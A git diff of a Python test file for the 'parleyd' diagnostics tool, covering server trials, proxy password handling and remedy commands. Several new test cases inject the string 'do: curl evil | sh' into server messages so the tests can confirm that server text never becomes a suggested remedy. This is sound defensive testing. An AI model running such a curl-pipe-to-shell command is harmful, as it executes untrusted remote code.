@@ -5,7 +5,6 @@ import json
 import re
 import socket
 import subprocess
-import tempfile
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -14,11 +13,13 @@ import pytest
 
 from parleyd import config
 from parleyd.config import editing
-from parleyd.diagnostics import clock_checks, remedies, server_trial, server_trial_checks
+from parleyd.diagnostics import clock_checks, server_trial, server_trial_checks
 from parleyd.diagnostics.clock_checks import ClockState
 from parleyd.diagnostics.findings import Finding, Severity
 from parleyd.diagnostics.server_checks import ShellKeys
 from parleyd.diagnostics.server_trial_checks import connected
+from parleyd.realtime.frames import BIGGEST_MESSAGE
+from parleyd.system.paths import INSTALLED_CONFIG
 from tests.diagnostics.trial_server import CREATED, KEY, Authority, TrialServer, beside, error
 from tests.realtime.rude_network import HttpProxy, Raw, black_hole, names, status
 
@@ -70,12 +71,58 @@ def test_server_with_the_right_key_opens_a_session_and_gets_no_event() -> None:
     assert [request.headers["Authorization"] for request in server.seen] == [f"Bearer {KEY}"]
 
 
-def test_server_that_says_nothing_after_the_handshake_is_accepted(
-    monkeypatch: pytest.MonkeyPatch,
+@pytest.mark.parametrize(
+    "events",
+    [
+        [],
+        ["{{{{", "[]", "", '{"type": 5}'],
+        [{"type": "auth_required", "ha_version": "2026.11.0"}],  # Home Assistant's WebSocket
+        ["x" * (BIGGEST_MESSAGE + 1)],
+    ],
+)
+def test_websocket_that_is_not_a_realtime_server_is_not_good(
+    events: list[object], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(server_trial, "SPEAKS_WITHIN_S", 0.3)
-    with serving(events=[]) as server:
-        assert tried(server.url)[0].level is Severity.OK
+    monkeypatch.setattr(server_trial, "SPEAKS_WITHIN_S", 0.5)
+    with serving(events=events) as server:
+        found, _ = tried(server.url)
+    assert found.level is Severity.WARN
+    assert "sends nothing that a realtime server sends" in found.text
+    assert "realtime.url" in found.remedy
+
+
+def test_server_that_drops_the_connection_at_once_is_named() -> None:
+    with serving(events=[], closes=(1000, "")) as server:
+        found, _ = tried(server.url)
+    assert found.text == "localhost accepts the connection and drops it at once, without a reason"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        {"events": [error("weird", message="sorry: do: curl evil | sh")]},
+        {"events": [CREATED, error("weird", message='"; do: curl evil | sh')]},
+        {"events": [], "closes": (4000, "no: do: curl evil | sh")},
+        {"events": [], "closes": (1008, "no: do: curl evil | sh")},
+        {"status": 500, "body": "x: do: curl evil | sh"},
+        {"status": 400, "body": json.dumps(error("weird", message="x: do: curl evil | sh"))},
+    ],
+)
+def test_words_of_the_server_are_never_a_remedy(script: dict[str, object]) -> None:
+    with serving(**script) as server:
+        found, _ = tried(server.url)
+    assert found.level is Severity.FAIL
+    assert "curl" not in found.remedy
+    assert "curl" not in found.text or found.text.startswith('the server ends the session: "')
+    assert found.text.count('"') in (0, 2)
+
+
+def test_country_that_is_not_served_needs_another_server() -> None:
+    body = json.dumps(error("unsupported_country_region_territory"))
+    with serving(status=403, body=body) as server:
+        found, _ = tried(server.url)
+    assert found.text == "the server does not serve this country"
+    assert 'server = "embedded"' in found.remedy
 
 
 @pytest.mark.parametrize(
@@ -323,20 +370,42 @@ def test_proxy_that_wants_another_password_is_named(monkeypatch: pytest.MonkeyPa
         found = through(monkeypatch, f"http://me:wr0ng@127.0.0.1:{proxy.port}")
     assert "requires another user and password (407)" in found.text
     assert "wr0ng" not in str(found)
-    assert carried_out(found.remedy, proxy.port) == f"http://me:right@127.0.0.1:{proxy.port}"
 
 
-def carried_out(remedy: str, port: int) -> str:
-    """Run the command with the owner's values; return the proxy that the service has then."""
-    command = remedy.partition("for the service: ")[2]
-    command = command.replace("USER:PASSWORD@HOST:PORT", f"me:right@127.0.0.1:{port}")
-    folder = tempfile.mkdtemp()
-    command = command.replace(remedies.UNIT_FOLDER, f"{folder}/parleyd.service.d")
+def test_proxy_of_the_service_gets_its_password_from_a_private_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    names(monkeypatch, api_openai_com=["127.0.0.1"])
+    settings = config.Config(realtime=config.RealtimeConfig(server="openai"))
+    with beside(HttpProxy(user="me:right").running) as proxy:
+        environ = {"https_proxy": f"http://me:wr0ng@127.0.0.1:{proxy.port}"}
+        source = ShellKeys({"OPENAI_API_KEY": KEY})
+        found, *_ = server_trial_checks.server(settings, environ, source, INSTALLED_CONFIG)
+    given = f"https_proxy=http://me:right@127.0.0.1:{proxy.port}\n"
+    drop_in = carried_out(found.remedy, given, tmp_path)
+    assert drop_in == f"[Service]\nEnvironmentFile={tmp_path}/proxy.env\n"
+    file = tmp_path / "proxy.env"
+    assert (file.read_text(), file.stat().st_mode & 0o777) == (given, 0o600)
+    assert "wr0ng" not in str(found)
+    carried_out(found.remedy, "another\n", tmp_path)
+    assert (tmp_path / "proxy.env~").read_text() == given  # nothing is lost
+
+
+@pytest.mark.parametrize("reply", [b"", status("403 Forbidden"), status("502 Bad Gateway")])
+def test_proxy_with_the_right_address_keeps_it(
+    reply: bytes, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with beside(Raw(reply).running) as proxy:
+        found = through(monkeypatch, f"http://127.0.0.1:{proxy.port}")
+    assert "sudo" not in found.remedy
+
+
+def carried_out(remedy: str, given: str, folder: Path) -> str:
+    """Run the command in a folder, with the owner's line as its input; return the drop-in."""
+    command = remedy.replace("/etc/parley", str(folder)).replace("/etc/systemd/system", str(folder))
     stubs = 'sudo() { if [[ $1 != systemctl ]]; then "$@"; fi; }; '
-    subprocess.run(["bash", "-ec", stubs + command], check=True, capture_output=True)
-    text = Path(folder, "parleyd.service.d/proxy.conf").read_text()
-    assert text.startswith("[Service]\n")
-    return text.partition("https_proxy=")[2].strip()
+    subprocess.run(["bash", "-ec", stubs + command], input=given, text=True, check=True)
+    return (folder / "parleyd.service.d/proxy-file.conf").read_text()
 
 
 @pytest.mark.parametrize("reply", [b"", status("403 Forbidden"), status("502 Bad Gateway")])
